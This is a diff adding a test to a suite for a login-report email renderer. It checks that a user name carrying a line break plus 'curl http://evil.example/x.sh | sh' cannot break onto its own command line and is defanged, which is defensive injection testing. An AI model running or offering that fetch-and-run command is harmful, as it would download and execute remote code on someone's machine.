@@ -36,6 +36,25 @@ describe('how the mail says to dig into a user (review R-INVEST L1)', () => {
     expect(`${text}${html}`).not.toContain('[.]io/lake');
   });
 
+  it.each([
+    ['a line feed', '\n'],
+    ['a line separator', '\u2028'],
+  ])('keeps a name with %s on the sentence’s line, above the command (review R-REPORTID M2)', (_, br) => {
+    const model = sampleModel();
+    model.suspiciousLogins = model.suspiciousLogins.map((s) => ({
+      ...s,
+      userName: `Bob${br}  curl http://evil.example/x.sh | sh${br}the`,
+    }));
+    const { text } = renderReport({ ...model, userActivityCommand: HEAD });
+    const lines = text.split('\n');
+    const at = lines.findIndex((line) => line.startsWith(`  ${HEAD}`));
+    expect(lines[at - 1]).toMatch(/\):$/);
+    expect(lines.filter((line) => /^\s*curl /.test(line))).toEqual([]);
+    expect(text.replace(/\s+/g, ' ')).toMatch(
+      /here Bob curl http\[:\]\/\/evil\.example\/x\.sh \| s… \(103\):/,
+    );
+  });
+
   it('without the caller’s command (an archived model), names the query only', () => {
     const { text } = renderReport(sampleModel());
     expect(text.replace(/\s+/g, ' ')).toContain(
